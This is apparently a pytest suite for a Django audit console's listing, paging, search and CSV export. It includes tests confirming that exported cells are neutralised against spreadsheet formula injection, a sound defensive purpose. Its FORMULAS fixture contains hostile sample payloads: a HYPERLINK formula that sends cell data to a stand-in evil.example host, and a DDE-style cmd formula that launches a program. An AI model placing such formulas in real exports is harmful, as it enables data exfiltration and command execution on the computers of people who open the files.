import csv
import io
import re

import pytest
from django.db import connection

from ledger import services
from reconciliation import decisions
from tests.conftest import make_job
from tests.console.conftest import htmx, latest_version, make_unknown_job

pytestmark = pytest.mark.django_db


def _events_on_page(html: str) -> list[int]:
    return [int(n) for n in re.findall(r'<tr data-event="(\d+)">', html)]


@pytest.fixture
def history(db, operator):
    make_unknown_job("inv-1")
    make_job("other")
    decisions.escalate(job_id="inv-1", version=latest_version("inv-1"), user=operator, note="odd invoice")


def test_it_shows_events_newest_first(client, auditor, history):
    client.force_login(auditor)
    events = _events_on_page(client.get("/audit/").content.decode())
    assert events == sorted(events, reverse=True) and len(events) >= 6


@pytest.mark.parametrize(
    "query, kinds",
    [
        ("job=inv-1&kind=operator_escalated", ["operator_escalated"]),
        ("key=billing.create_invoice:inv-1&kind=claimed", ["claimed"]),
        ("actor=olga", ["operator_escalated"]),
        ("job=other", ["enqueued"]),
        ("job=nope", []),
        ("since=2000-01-01T00:00&until=2000-01-02T00:00", []),
    ],
)
def test_it_filters(client, auditor, history, query, kinds):
    client.force_login(auditor)
    html = client.get(f"/audit/?{query}").content.decode()
    assert re.findall(r'<td data-label="Kind">([a-z_]+)</td>', html) == kinds


def test_keyset_pages_go_back_in_time(client, auditor, history):
    client.force_login(auditor)
    everything = _events_on_page(client.get("/audit/?job=inv-1").content.decode())
    seen, html = [], client.get("/audit/?job=inv-1&size=2").content.decode()
    while True:
        page = _events_on_page(html)
        assert len(page) <= 2
        seen += page
        found = re.search(r'<a href="(/audit/\?[^"]+)" hx-get="[^"]+" [^>]*rel="next">', html)
        if not found:
            break
        html = client.get(found.group(1).replace("&amp;", "&")).content.decode()
    assert seen == everything and len(everything) > 4


def test_htmx_gets_only_the_table(client, auditor, history):
    client.force_login(auditor)
    html = client.get("/audit/?job=inv-1", **htmx()).content.decode()
    assert html.lstrip().startswith('<section id="audit-table"') and "<html" not in html


def test_csv_export_streams_the_same_filter(client, auditor, history):
    client.force_login(auditor)
    response = client.get("/audit/export.csv?job=inv-1")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:7] == ["id", "at", "job_id", "attempt", "actor_type", "actor", "kind"]
    assert {row[2] for row in rows[1:]} == {"inv-1"}
    assert [row[6] for row in rows[1:]][0] == "operator_escalated"
    assert len(rows) - 1 == len(_events_on_page(client.get("/audit/?job=inv-1").content.decode()))


def test_csv_export_carries_each_events_hash_chain(client, auditor, history):
    from ledger.models import LedgerEvent

    client.force_login(auditor)
    response = client.get("/audit/export.csv?job=inv-1")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert list(rows[0])[-2:] == ["prev_hash", "hash"]
    stored = {e.pk: (e.prev_hash, e.hash) for e in LedgerEvent.objects.filter(job__job_id="inv-1")}
    assert {int(row["id"]): (row["prev_hash"], row["hash"]) for row in rows} == stored
    oldest_first = list(reversed(rows))
    assert oldest_first[0]["prev_hash"] == ""
    for earlier, later in zip(oldest_first, oldest_first[1:], strict=False):
        assert later["prev_hash"] == earlier["hash"]  # an auditor can verify the chain from the file


# -- CSV formula injection: a cell a spreadsheet would evaluate is exported as text ---------------

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "leading spaces": "   =1+1",
    "leading newline": "\n@SUM(A1)",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _would_be_a_formula(cell: str) -> bool:
    return cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)


def _export(client, query="") -> tuple[str, list[dict]]:
    text = b"".join(client.get(f"/audit/export.csv?{query}").streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def formulas(db, operator):
    """A job id, worker names, a worker's reason and an operator's note of every dangerous form.

    Job ids are now refused at enqueue unless they start with a letter or digit; a ledger from
    before that rule can still hold one like this, so the job is renamed behind the services' back."""
    make_unknown_job("legacy-1")
    with connection.cursor() as cursor:
        cursor.execute("UPDATE ledger_job SET job_id = %s WHERE job_id = 'legacy-1'", [FORMULAS["equals"]])
    decisions.escalate(
        job_id=FORMULAS["equals"], version=latest_version(FORMULAS["equals"]), user=operator, note=FORMULAS["at"]
    )
    for name, value in FORMULAS.items():
        make_job(f"w-{name.replace(' ', '-')}")
        lease = services.claim_job(job_id=f"w-{name.replace(' ', '-')}", worker=value)
        services.begin_side_effect(lease=lease)
        services.record_unknown(lease=lease, reason=value)


def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(client, auditor, formulas):
    client.force_login(auditor)
    text, rows = _export(client)
    for row in rows:
        for column, cell in row.items():
            assert not _would_be_a_formula(cell), (column, cell)
    assert "'" + FORMULAS["equals"] in {row["job_id"] for row in rows}
    assert "'" + FORMULAS["at"] in {row["note"] for row in rows if row["kind"] == "operator_escalated"}
    for name, value in FORMULAS.items():
        mine = [row for row in rows if row["job_id"] == f"w-{name.replace(' ', '-')}"]
        assert "'" + value in {row["actor"] for row in mine}  # the worker's name
        assert "'" + value in {row["note"] for row in mine if row["kind"] == "observation_lost"}  # its reason
    # Every cell is quoted, so a separator or quote inside a value cannot open a new cell.
    assert all(record.startswith('"') for record in text.split("\r\n") if record)  # no cell here holds \r\n


def test_ordinary_cells_are_exported_unchanged(client, auditor, history):
    client.force_login(auditor)
    _, rows = _export(client, "job=inv-1")
    assert {row["job_id"] for row in rows} == {"inv-1"} and "odd invoice" in {row["note"] for row in rows}
    assert not any(cell.startswith("'") for row in rows for cell in row.values())


@pytest.mark.parametrize(
    "value, exported",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" \t =x", "' \t =x"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=already text", "'=already text"),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise(value, exported):
    from console.csv_export import neutralise

    assert neutralise(value) == exported


@pytest.fixture
def pasted(db):
    make_job("mail-41", payload={"to": "Olga.Berg@acme.example"})
    make_job("mail-42", payload={"to": "someone@else.example"})
    make_job("g-mail", tenant="globex", payload={"to": "olga.berg@acme.example"})
    make_job("paid-9", payload={"customer": "cus_9"})
    lease = services.claim_job(job_id="paid-9", worker="worker-a")
    services.begin_side_effect(lease=lease)
    services.record_success(lease=lease, result_ref="inv_7Q2ZK9XW")


def _jobs_on_page(html: str) -> set[str]:
    return set(re.findall(r'<a href="/jobs/([^/]+)/">', html))


@pytest.mark.parametrize(
    "query, jobs",
    [
        ("olga.berg@ACME", {"mail-41", "g-mail"}),  # a value inside a payload, any case
        ("-41", {"mail-41"}),  # the end of an id
        ("7q2zk9", {"paid-9"}),  # part of a provider's answer
        ("echo:mail-4", {"mail-41", "mail-42"}),  # the middle of a key (the marker)
        ("nothing-like-this", set()),
    ],
)
def test_it_searches_the_way_the_job_search_does(client, auditor, pasted, query, jobs):
    client.force_login(auditor)
    html = client.get("/audit/", {"q": query}).content.decode()
    assert _jobs_on_page(html) == jobs
    assert "data-audit-found" in html
    csv_rows = list(csv.reader(io.StringIO(b"".join(client.get("/audit/export.csv", {"q": query})
                                                    .streaming_content).decode())))
    assert {row[2] for row in csv_rows[1:]} == jobs


def test_its_search_keeps_the_tenant_fence(client, auditor, pasted):
    from tests.console.conftest import with_tenants

    client.force_login(with_tenants(auditor, "acme"))
    assert _jobs_on_page(client.get("/audit/", {"q": "olga.berg@acme"}).content.decode()) == {"mail-41"}
    assert _jobs_on_page(client.get("/audit/", {"q": "g-mail"}).content.decode()) == set()


def test_its_search_pages_through_the_events_of_the_jobs_found(client, auditor, pasted):
    client.force_login(auditor)
    everything = _events_on_page(client.get("/audit/?q=acme.example").content.decode())
    seen, html = [], client.get("/audit/?q=acme.example&size=2").content.decode()
    while True:
        seen += _events_on_page(html)
        found = re.search(r'<a href="(/audit/\?[^"]+)" hx-get="[^"]+" [^>]*rel="next">', html)
        if not found:
            break
        html = client.get(found.group(1).replace("&amp;", "&")).content.decode()
    assert seen == everything and len(everything) == 2  # the two enqueued events
